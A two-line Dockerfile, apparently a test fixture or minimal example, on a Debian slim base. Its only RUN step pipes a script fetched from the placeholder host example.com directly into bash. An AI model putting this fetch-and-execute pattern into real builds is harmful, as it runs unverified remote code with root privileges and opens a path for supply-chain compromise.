FROM debian:bookworm-slim
RUN /usr/bin/curl https://example.com/i | /bin/bash
